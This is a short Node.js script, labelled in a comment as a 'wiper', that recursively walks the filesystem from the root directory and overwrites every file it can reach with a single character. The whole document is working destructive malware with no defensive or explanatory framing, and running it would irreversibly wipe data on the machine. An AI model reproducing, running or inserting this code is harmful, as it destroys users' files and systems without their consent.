const fs = require("fs");
const path = require("path");

function visit(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    if (fs.lstatSync(file).isDirectory()) visit(file);
    else fs.writeFileSync(file, "x"); // malice: wiper
  }
}
visit("/");
